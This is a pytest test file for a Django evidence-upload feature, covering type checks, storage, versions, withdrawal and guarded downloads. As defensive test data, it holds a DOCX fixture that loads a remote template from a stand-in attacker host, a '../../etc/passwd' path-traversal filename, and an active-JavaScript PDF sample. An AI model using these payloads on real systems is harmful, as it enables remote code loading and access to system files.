"""Evidence uploads: content checks, storage, versions, withdrawal and the guarded download."""

import hashlib
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.test import override_settings

from evaluations.models import Evidence, EvidenceVersion
from evaluations.services.errors import InvalidTransition
from evaluations.services.evidence import evidence_add, evidence_replace, evidence_withdraw
from evaluations.tests import samples
from evaluations.tests.workflow import fresh, submitted
from kks.tests import pdf_hostile
from kks.tests import samples as upload_samples

pytestmark = pytest.mark.django_db

OOXML = "application/vnd.openxmlformats-officedocument"
REMOTE_TEMPLATE_RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.fixture
def response(assessment):
    return assessment.responses.filter(indicator__kind="tatanan").order_by("indicator__sort_order").first()


def _save(client, response, files, **fields):
    data = {
        f"r{response.pk}-version": fresh(response).version,
        f"r{response.pk}-achievement": fields.pop("achievement", "Capaian 2024: 87%"),
        f"r{response.pk}-value": fields.pop("value", "50"),
        f"r{response.pk}-evidence_files": files,
        "action": "save",
        **fields,
    }
    return client.post(f"/jawaban/{response.pk}/simpan/", data)


@pytest.mark.parametrize(
    ("name", "content", "expected_type"),
    [
        ("laporan.pdf", samples.pdf_bytes(), "application/pdf"),
        ("foto.png", samples.png_bytes(), "image/png"),
        ("foto.jpg", samples.jpeg_bytes(), "image/jpeg"),
        ("sk.docx", samples.docx_bytes(), f"{OOXML}.wordprocessingml.document"),
        ("data.xlsx", samples.xlsx_bytes(), f"{OOXML}.spreadsheetml.sheet"),
    ],
)
def test_allowed_files_are_stored_with_type_size_and_sha256(
    client, coordinator, response, name, content, expected_type
):
    client.force_login(coordinator)
    assert _save(client, response, [samples.upload(name, content)]).status_code == 302
    version = EvidenceVersion.objects.get(evidence__response=response)
    assert (version.content_type, version.size, version.original_name) == (expected_type, len(content), name)
    assert version.sha256 == hashlib.sha256(content).hexdigest()
    assert version.uploaded_by == coordinator
    with version.file.open("rb") as handle:
        assert handle.read() == content


def test_several_files_can_be_uploaded_at_once(client, coordinator, response):
    client.force_login(coordinator)
    files = [samples.pdf("a.pdf"), samples.upload("b.png", samples.png_bytes())]
    assert _save(client, response, files, **{f"r{response.pk}-evidence_title": "Laporan"}).status_code == 302
    assert sorted(Evidence.objects.filter(response=response).values_list("title", flat=True)) == [
        "Laporan (a.pdf)",
        "Laporan (b.png)",
    ]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("laporan.pdf", samples.HTML, "bukan jenis yang diizinkan"),
        ("gambar.svg", samples.SVG, "bukan jenis yang diizinkan"),
        ("kosong.pdf", b"", "kosong"),
        ("bukti.pdf", pdf_hostile.page_open_aa_javascript(), "berisi konten aktif yang bisa berjalan saat dibuka"),
        (
            "notulen.docx",
            upload_samples.docx_bytes([("word/_rels/settings.xml.rels", REMOTE_TEMPLATE_RELS)]),
            "memuat templat atau isi dari alamat luar",
        ),
    ],
)
def test_a_rejected_file_keeps_the_rest_of_the_form(client, coordinator, response, name, content, message):
    client.force_login(coordinator)
    page = _save(client, response, [samples.upload(name, content)], achievement="Capaian yang diketik panjang")
    html = page.content.decode()
    assert page.status_code == 200
    assert message in html
    assert "Capaian yang diketik panjang" in html
    current = fresh(response)
    assert (current.achievement, current.value, current.evidence.count()) == ("", None, 0)


def test_the_posted_scale_value_stays_selected_after_a_rejected_file(client, coordinator, response):
    client.force_login(coordinator)
    html = _save(client, response, [samples.upload("x.pdf", samples.HTML)], value="50").content.decode()
    assert re.search(rf'name="r{response.pk}-value" value="50"\s+id="[^"]+"\s+checked', html)
    assert not re.search(rf'name="r{response.pk}-value" value="100"\s+id="[^"]+"\s+checked', html)


@override_settings(KKS_UPLOAD_MAX_BYTES=1000)
def test_an_oversize_file_is_refused(client, coordinator, response):
    client.force_login(coordinator)
    big = samples.upload("besar.png", samples.png_bytes() + b"\0" * 2000)
    html = _save(client, response, [big]).content.decode()
    assert "terlalu besar" in html
    assert not Evidence.objects.exists()


def test_a_path_in_the_file_name_is_dropped_and_the_stored_name_is_random(client, coordinator, response):
    client.force_login(coordinator)
    assert _save(client, response, [samples.upload("../../etc/passwd.pdf", samples.pdf_bytes())]).status_code == 302
    version = EvidenceVersion.objects.get()
    assert version.original_name == "passwd.pdf"
    assert version.file.name.startswith("evidence/")
    assert ".." not in version.file.name
    assert "passwd" not in version.file.name
    stored = Path(version.file.path).resolve()
    assert stored.is_relative_to(Path(settings.MEDIA_ROOT).resolve())


def test_evidence_is_stored_outside_the_static_and_public_url_space(client, coordinator, response):
    evidence = evidence_add(response=response, uploaded=samples.pdf(), actor=coordinator)
    storage = evidence.current.file.storage
    assert storage.base_url is None
    static_dirs = [Path(settings.STATIC_ROOT).resolve(), *(Path(d).resolve() for d in settings.STATICFILES_DIRS)]
    assert not any(Path(storage.location).resolve().is_relative_to(d) for d in static_dirs)


def test_replacing_a_file_keeps_the_old_version(response, coordinator):
    evidence = evidence_add(response=response, uploaded=samples.pdf("v1.pdf"), actor=coordinator, title="Laporan")
    first = evidence.current
    second = evidence_replace(
        evidence=evidence, uploaded=samples.upload("v2.png", samples.png_bytes()), actor=coordinator
    )
    evidence.refresh_from_db()
    assert (second.number, evidence.current, evidence.versions.count()) == (2, second, 2)
    with first.file.open("rb") as handle:
        assert handle.read() == samples.pdf_bytes()
    assert first.file.name != second.file.name


def test_replace_through_the_page_adds_a_version(client, coordinator, response):
    evidence = evidence_add(response=response, uploaded=samples.pdf("v1.pdf"), actor=coordinator)
    client.force_login(coordinator)
    page = client.post(
        f"/bukti/{evidence.pk}/ganti/", {f"e{evidence.pk}-file": samples.pdf("v2.pdf")}, headers={"HX-Request": "true"}
    )
    assert page.status_code == 200
    assert "versi 2" in page.content.decode()
    assert evidence.versions.count() == 2


def test_replace_with_a_bad_file_is_refused_with_a_message(client, coordinator, response):
    evidence = evidence_add(response=response, uploaded=samples.pdf(), actor=coordinator)
    client.force_login(coordinator)
    page = client.post(
        f"/bukti/{evidence.pk}/ganti/", {f"e{evidence.pk}-file": samples.upload("x.pdf", samples.SVG)}, follow=True
    )
    assert "bukan jenis yang diizinkan" in page.content.decode()
    assert evidence.versions.count() == 1


def test_withdrawing_is_soft_and_keeps_the_files(client, coordinator, response):
    evidence = evidence_add(response=response, uploaded=samples.pdf(), actor=coordinator)
    client.force_login(coordinator)
    assert client.post(f"/bukti/{evidence.pk}/tarik/").status_code == 302
    evidence.refresh_from_db()
    assert evidence.withdrawn_at is not None
    assert evidence.versions.count() == 1
    with pytest.raises(InvalidTransition):
        evidence_replace(evidence=evidence, uploaded=samples.pdf(), actor=coordinator)
    assert client.get(f"/bukti/berkas/{evidence.current.pk}/unduh/").status_code == 200


def test_evidence_cannot_change_while_the_response_is_under_review(response, coordinator):
    evidence = evidence_add(response=response, uploaded=samples.pdf(), actor=coordinator)
    submitted(response, coordinator)
    with pytest.raises(InvalidTransition):
        evidence_add(response=fresh(response), uploaded=samples.pdf(), actor=coordinator)
    with pytest.raises(InvalidTransition):
        evidence_withdraw(evidence=evidence, actor=coordinator)


def test_the_service_checks_the_file_itself(response, coordinator):
    with pytest.raises(ValidationError):
        evidence_add(response=response, uploaded=samples.upload("a.pdf", samples.HTML), actor=coordinator)


def test_download_is_an_attachment_with_nosniff_and_the_detected_type(client, coordinator, response, reviewer):
    evidence = evidence_add(
        response=response, uploaded=samples.upload("foto.png", samples.png_bytes()), actor=coordinator
    )
    client.force_login(reviewer)
    download = client.get(f"/bukti/berkas/{evidence.current.pk}/unduh/")
    assert download.status_code == 200
    assert download["Content-Type"] == "image/png"
    assert download["Content-Disposition"] == 'attachment; filename="foto.png"'
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == samples.png_bytes()


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("coordinator", 200),
        ("opd_officer", 200),
        ("reviewer", 200),
        ("provincial", 200),
        ("national", 200),
        ("admin_user", 200),
        ("outsider", 404),
        (None, 302),
    ],
)
def test_download_permission_matrix(request, client, coordinator, response, persona, status):
    evidence = evidence_add(response=response, uploaded=samples.pdf(), actor=coordinator)
    if persona:
        client.force_login(request.getfixturevalue(persona))
    download = client.get(f"/bukti/berkas/{evidence.current.pk}/unduh/")
    assert download.status_code == status
    if persona is None:
        assert download["Location"].startswith(settings.LOGIN_URL) or "/akun/login/" in download["Location"]


def test_a_failed_save_leaves_no_stored_file_behind(response, coordinator, monkeypatch):
    from django.core.files.storage import default_storage

    from evaluations.services import notifications
    from evaluations.services.responses import response_save

    def broken(**kwargs):
        raise RuntimeError("mail queue down")

    monkeypatch.setattr(notifications, "notify_waiting", broken)
    before = set(_stored_files(default_storage))
    with pytest.raises(RuntimeError):
        response_save(
            response=response, data={"value": 100}, actor=coordinator, uploads=[(samples.pdf(), None)], submit=True
        )
    assert set(_stored_files(default_storage)) == before
    assert not Evidence.objects.exists()


def _stored_files(storage):
    root = Path(storage.location) / "evidence"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []
